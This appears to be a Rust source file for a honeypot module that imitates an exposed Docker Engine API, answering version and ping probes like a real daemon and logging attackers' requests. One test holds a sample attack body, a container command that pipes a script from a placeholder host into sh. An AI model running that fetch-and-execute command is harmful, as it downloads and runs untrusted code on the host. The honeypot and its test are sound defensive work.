//! `docker_api`: the Docker Engine API on 2375 (and TLS on 2376), laid out as Go's
//! net/http writes it. `/_ping`, `/version` and CORS preflights answer as a real daemon
//! does; the API itself is behind authorization (401). Every request, with its body (the
//! container an attacker wanted to run), is reported.

use std::io;

use crate::config::{Config, Os};
use crate::limits::{Conn, Handler};

use super::httpd::{self, App, Request, Response};

const ENGINE_VERSION: &str = "24.0.7";
const API_VERSION: &str = "1.43";

/// First path segments of the Engine API (after an optional `/v1.xx`).
const API_ROOTS: &[&str] = &[
    "auth",
    "build",
    "commit",
    "configs",
    "containers",
    "distribution",
    "events",
    "exec",
    "images",
    "info",
    "networks",
    "nodes",
    "plugins",
    "secrets",
    "services",
    "session",
    "swarm",
    "system",
    "tasks",
    "volumes",
];

pub struct DockerApi {
    server: String,
    os: &'static str,
    kernel: &'static str,
}

impl DockerApi {
    pub fn new(cfg: &Config) -> Self {
        let (os, kernel) = match cfg.os {
            Os::Windows => (
                "windows",
                "10.0 20348 (20348.1.amd64fre.fe_release.210507-1500)",
            ),
            _ => ("linux", "5.15.0-91-generic"),
        };
        DockerApi {
            server: format!("Docker/{ENGINE_VERSION} ({os})"),
            os,
            kernel,
        }
    }

    fn version(&self) -> String {
        let (os, kernel) = (self.os, self.kernel);
        format!(
            concat!(
                r#"{{"Platform":{{"Name":"Docker Engine - Community"}},"Components":[{{"Name":"Engine","Version":"{v}","Details":{{"ApiVersion":"{api}","Arch":"amd64","BuildTime":"2023-10-26T09:07:41.000000000+00:00","Experimental":"false","GitCommit":"311b9ff","GoVersion":"go1.20.10","KernelVersion":"{kernel}","MinAPIVersion":"1.12","Os":"{os}"}}}},"#,
                r#"{{"Name":"containerd","Version":"1.6.26","Details":{{"GitCommit":"3dd1e886e55dd695541fdcd67420c2888645a495"}}}},{{"Name":"runc","Version":"1.1.10","Details":{{"GitCommit":"v1.1.10-0-g18a0cb0"}}}}],"#,
                r#""Version":"{v}","ApiVersion":"{api}","MinAPIVersion":"1.12","GitCommit":"311b9ff","GoVersion":"go1.20.10","Os":"{os}","Arch":"amd64","KernelVersion":"{kernel}","BuildTime":"2023-10-26T09:07:41.000000000+00:00"}}"#,
                "\n"
            ),
            v = ENGINE_VERSION,
            api = API_VERSION,
            os = os,
            kernel = kernel,
        )
    }

    /// The headers the daemon's middleware adds to API answers.
    fn daemon(&self, resp: Response) -> Response {
        resp.header("Api-Version", API_VERSION)
            .header("Docker-Experimental", "false")
            .header("Ostype", self.os)
            .header("Server", self.server.as_str())
    }
}

/// `/v1.43/containers/json` -> `/containers/json`
fn strip_api_version(path: &str) -> &str {
    let Some(rest) = path.strip_prefix("/v") else {
        return path;
    };
    match rest.find('/') {
        Some(i) if rest[..i].bytes().all(|b| b.is_ascii_digit() || b == b'.') => &rest[i..],
        _ => path,
    }
}

impl App for DockerApi {
    fn respond(&self, req: &Request, _conn: &Conn) -> Response {
        let path = strip_api_version(req.path());
        let root = path.trim_start_matches('/').split('/').next().unwrap_or("");
        match (req.method.as_str(), path) {
            ("OPTIONS", _) => self.daemon(Response::empty(200)),
            ("GET" | "HEAD", "/_ping") => self.daemon(
                Response::text(200, "OK")
                    .header("Cache-Control", "no-cache, no-store, must-revalidate")
                    .header("Pragma", "no-cache"),
            ),
            ("GET", "/version") => {
                Response::json(200, self.version()).header("Server", self.server.as_str())
            }
            _ if API_ROOTS.contains(&root) => {
                self.daemon(Response::json(401, "{\"message\":\"Unauthorized\"}\n"))
            }
            _ => Response::json(404, "{\"message\":\"page not found\"}\n"),
        }
    }

    fn server_header(&self) -> Option<&str> {
        None
    }

    fn go_style(&self) -> bool {
        true
    }
}

impl Handler for DockerApi {
    async fn handle(&self, mut conn: Conn) -> io::Result<()> {
        httpd::serve(self, &mut conn).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::services::testkit;

    #[test]
    fn api_version_prefix_is_stripped() {
        assert_eq!(
            strip_api_version("/v1.43/containers/json"),
            "/containers/json"
        );
        assert_eq!(strip_api_version("/version"), "/version");
        assert_eq!(strip_api_version("/v"), "/v");
        assert_eq!(strip_api_version("/vx/y"), "/vx/y");
    }

    #[tokio::test]
    async fn version_answers_and_writes_are_refused_but_recorded() {
        let t = testkit::start("docker_api", Config::default()).await;
        let mut c = t.connect(0).await;
        c.send(b"GET /version HTTP/1.1\r\n\r\n").await;
        let resp = c.read_http_response().await;
        assert!(
            resp.starts_with("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nServer: Docker/24.0.7 (linux)\r\nDate: "),
            "{resp}"
        );
        let body = resp.split("\r\n\r\n").nth(1).unwrap();
        let v: serde_json::Value = serde_json::from_str(body).unwrap();
        assert_eq!(v["ApiVersion"], "1.43");
        let create = r#"{"Image":"alpine","Cmd":["sh","-c","curl http://x/m.sh|sh"]}"#;
        c.send(format!("POST /v1.43/containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{create}", create.len()).as_bytes()).await;
        assert!(c.read_http_response().await.starts_with("HTTP/1.1 401"));
        let mut ev = t.events();
        ev.expect("request").await;
        let r = ev.expect("request").await;
        assert_eq!(r["method"], "POST");
        assert_eq!(r["body"], create);
    }

    #[tokio::test]
    async fn answers_like_go_to_http_1_0_probes() {
        let t = testkit::start("docker_api", Config::default()).await;
        let mut c = t.connect(0).await;
        c.send(b"OPTIONS / HTTP/1.0\r\n\r\n").await;
        let resp = String::from_utf8(c.read_to_close().await).unwrap();
        assert!(resp.starts_with("HTTP/1.0 200 OK\r\nApi-Version: 1.43\r\nDocker-Experimental: false\r\nOstype: linux\r\nServer: Docker/24.0.7 (linux)\r\nDate: "), "{resp}");
        assert!(resp.ends_with("\r\nContent-Length: 0\r\n\r\n"), "{resp}");
        let mut c = t.connect(0).await;
        c.send(b"GET / HTTP/1.0\r\n\r\n").await;
        let resp = String::from_utf8(c.read_to_close().await).unwrap();
        assert!(
            resp.starts_with("HTTP/1.0 404 Not Found\r\nContent-Type: application/json\r\nDate: ")
        );
        assert!(resp.ends_with("Content-Length: 29\r\n\r\n{\"message\":\"page not found\"}\n"));
    }
}
